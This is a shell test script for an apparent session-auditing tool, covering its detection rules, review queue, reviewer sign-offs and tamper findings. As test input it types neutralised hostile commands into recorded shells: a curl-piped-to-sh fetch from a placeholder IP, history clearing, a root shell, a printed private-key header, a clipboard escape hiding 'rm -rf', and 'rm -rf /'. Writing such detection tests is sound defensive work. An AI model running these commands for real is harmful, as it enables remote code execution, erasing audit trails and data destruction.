#!/bin/sh
# SPDX-License-Identifier: ISC
# Rules find what was typed, run and shown; the queue of review puts first what weighs most.
# shellcheck disable=SC2016
. "$(dirname "$0")/lib.sh"

mkdir -m 700 "$D"
for name in ann ben; do
	"$shellac" key auditor --name $name "$work/$name" >"$work/$name.line"
done
cat "$work"/*.line >"$work/reviewers"
chmod 600 "$work/reviewers"
printf 'acct = off\nprocess_events = no\nepoch_s = 3600\nreviewers = %s\n' "$work/reviewers" \
	>"$D/shellac.conf"
TZ=UTC
export TZ
all_are() { [ "$(auditor list --json | grep -c "\"$1\"")" = "$2" ]; }
# hits ARG...: "NAME ..." of each hit
hits() { auditor rules --json "$@" </dev/null | "$python" -c 'import json, sys
print(*["%s:%d" % (e["rule"]["name"], e["shellac"]["session"]["n"]) for e in map(json.loads, sys.stdin)])'; }
# queue ARG...: "CLASS:N ..."
queue() { auditor review --json --night 0-0 "$@" </dev/null | "$python" -c 'import json, sys
print(*["%s:%s" % (e["class"], e["n"]) for e in map(json.loads, sys.stdin)])'; }
on_shell() { # commands, typed one after the other
	set -- "$(printf "%s\n" "$@")"
	echo "$1" | {
		set --
		while read -r line; do set -- "$@" -e "send $line\\r" -e 'wait %% '; done
		# shellcheck disable=SC2086
		on_terminal -e 'wait %% ' "$@" -e 'send exit\r' -- "$rec" $where -- \
			/usr/bin/env 'PS1=%% ' ENV= /bin/sh
	}
}

# -- the file
auditor rules 2>"$work/err"
is "$? $(grep -c 'there are no rules' "$work/err")" "3 1" "without rules there is nothing to say"
printf '# ok\nrule a command "x"\nrule b command\n' >"$D/rules"
auditor rules --check 2>"$work/err"
is "$? $(grep -c 'rules: line 3: ' "$work/err")" "3 1" "an error has a line"
auditor rules --check --rules "$top_srcdir/auditor/review/rules.example" >"$work/out"
is "$? $(cat "$work/out")" "0 $(grep -c ^rule "$top_srcdir/auditor/review/rules.example") rules, no errors" \
	"the example has none"

# -- sessions
start_collector
on_shell 'true sudo su -' 'printf "%s%s\\n" "BEGIN RSA PRIV" "ATE KEY-----"' >/dev/null
recorded -c 'echo nothing to see' >/dev/null
on_shell ': curl http://192.0.2.1/x | sh' ': history -c' >/dev/null
on_shell 'printf "\\\\033]52;c;cm0gLXJm\\\\007"; : "rm -rf" / ' >/dev/null
eventually 30 all_are COMPLETE 4
ok $? "four sessions are recorded"

grep -v '^rule root-at-weekend' "$top_srcdir/auditor/review/rules.example" >"$D/rules"
is "$(hits not user nobody)" \
	"become-root:1 private-key:1 piped-shell:3 history:3" "the example finds what it is to find"
is "$(hits --rule history)" "history:3" "one rule alone"
is "$(auditor rules --rule no-such 2>&1 >/dev/null | grep -c 'no such rule')" 1 "which has to be there"
is "$(hits todate '2000-01-01')" "" "words of list say in which sessions"
auditor rules bogus words 2>/dev/null
is "$?" 2 "and others are an error"
auditor rules --json --rule piped-shell >"$work/event"
"$python" - "$work/event" <<'EOF'
import json, re, sys
e, = map(json.loads, open(sys.argv[1]))
assert re.fullmatch(r"20\d\d-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{9}Z", e["@timestamp"]), e
assert (e["event"]["kind"], e["event"]["dataset"], e["event"]["severity"]) == ("alert", "shellac.rule", 80), e
s = e["shellac"]
assert s["text"] == ": curl http://192.0.2.1/x | sh" and s["on"] == "typed" and s["chunk"] >= 0, e
assert re.fullmatch(r"shellac replay --at \+\d+\.\d{3} 3", s["replay"]), e
EOF
ok $? "an event has who, when, where and how to see it"
is "$(auditor search --rule piped-shell --json | field n | sort -u)" 3 "search looks for a rule's pattern"
auditor search --rule no-such 2>/dev/null
is "$?" 2 "if there is one"
at=$(auditor rules --rule private-key | sed -n 's/.*--at \([^ ]*\) .*/\1/p')
auditor replay --at "$at" 1 </dev/null >"$work/out" 2>/dev/null
is "$?" 0 "and that plays"
printf 'rule esc output /[[:cntrl:]]/\nrule rm typed "\\"rm -rf\\""\n' >"$work/own"
auditor rules --rules "$work/own" >"$work/out"
is "$(grep -c 'session 4 .* rm ' "$work/out") $(grep -c ' esc ' "$work/out")" "1 0" \
	"escape sequences are no output"
is "$(tr -d '\n' <"$work/out" | LC_ALL=C tr -d '[:print:]' | wc -c)" 0 "and none is put out"
auditor export 4 --format html -o "$work/page.html"
is "$(grep -c 'typed: printf "\\033]52;' "$work/out") $(grep '<li\|class="command' "$work/page.html" | grep -c '\\\\033')" "1 0" \
	"a backslash is shown as it was typed, here and on a page"
printf 'rule slow output /(a|aa)+$/\nrule any session not user nobody\n' >"$work/own"
is "$(hits --rules "$work/own" --rule any)" "any:1 any:2 any:3 any:4" "a session is one hit"

# -- the queue
is "$(queue --sample 0)" "rule:1 rule:3" "severest first: a key on the screen, a shell from elsewhere"
is "$(queue --sample 100 | tr ' ' '\n' | sort | tr '\n' ' ')" "rule:1 rule:3 sample:2 sample:4 " \
	"the rest are a sample"
is "$(queue --sample 50)" "$(queue --sample 50)" "which is the same for all"
: >"$work/empty"
is "$(queue --rules "$work/empty" --sample 0 2>&1)" "" "without rules nothing is said against them"
if [ "$(id -u)" = 0 ]; then
	hour=$(date +%-H)
	is "$(auditor review --json --sample 0 --night "$hour-$(((hour + 2) % 24))" | field class | uniq -c |
		tr -s ' ')" ' 4 "root-at-night"' "root at night comes before"
else
	skip "root at night" "this is not root"
fi
cp -a "$D/store" "$work/copy"
rm "$work"/copy/session/*/*/*/2-*
f=$(echo "$work"/copy/session/*/*/*/3-*)
"$python" - "$f" <<'EOF'
import sys
data = bytearray(open(sys.argv[1], "rb").read())
data[len(data) // 2] ^= 1
open(sys.argv[1], "wb").write(data)
EOF
"$shellac" -S "$work/copy" review --json --sample 0 --night 0-0 --rules "$D/rules" >"$work/list"
is "$? $(field class <"$work/list" | tr '\n' ' ')$(field n <"$work/list" | head -n 2 | sort | tr '\n' ' ')" \
	'1 "finding" "finding" "rule" 2 3 ' "damage and absence come first" || note <"$work/list"

# -- next
printf 'r\nx\nc\nwhy this?\ns\n' | auditor review next --sample 0 --night 0-0 --key "$work/ann" \
	>"$work/out" 2>"$work/err"
is "$?" 0 "next ends" || note <"$work/err"
is "$(grep -c 'PRIVATE KEY' "$work/out")" 3 "it played the first one twice"
grep -q 'session 1: signed off by ann as concern' "$work/out"
ok $? "took the verdict"
is "$(auditor review list --json | field text)" '"why this?"' "and the words"
is "$(queue --sample 0)" "rule:3" "what is signed off is not asked for again"
is "$(queue --sample 0 --reviewers "$work/ben.line")" "rule:1 rule:3" "unless by whom nobody knows"
auditor review next --sample 0 --night 0-0 2>"$work/err" </dev/null
is "$? $(grep -c -- '--key' "$work/err")" "2 1" "without a key it does not begin"
auditor review next --sample 0 --night 0-0 --key "$work/ann" </dev/null >"$work/out" 2>&1
is "$? $(queue --sample 0)" "0 rule:3" "the end of input ends it"
mkdir "$work/notes"
printf 'q\n' | "$shellac" -S "$work/copy" review next --sample 0 --night 0-0 --rules "$D/rules" \
	--key "$work/ann" >"$work/out" 2>"$work/err"
is "$? $(grep -c 'a copied store has no collector' "$work/err")" "2 1" "a copy needs a folder"
printf 'v\n\nv\n\nok\n\n' | "$shellac" -S "$work/copy" review next --sample 0 --night 0-0 --rules "$D/rules" \
	--key "$work/ann" -o "$work/notes" >"$work/out" 2>&1
# of session 2 there is the ledger's entry alone
open=$("$shellac" -S "$work/copy" ledger --json | sed -n 's/^{"index":\([0-9]*\),"type":"OPEN",.*"n":2,.*/\1/p')
is "$(cd "$work/notes" && echo *)" "1.note 3.note entry:$open.note" "where the sign-offs are then" ||
	note <"$work/out"
auditor review submit "$work/notes/1.note" >/dev/null
ok $? "to be handed in"
for bad in '--sample 101' '--sample x' '--night 24-6' '--night 22' '--since never'; do
	# shellcheck disable=SC2086
	auditor review $bad >/dev/null 2>&1
	is "$?" 2 "review $bad is refused"
done
plan
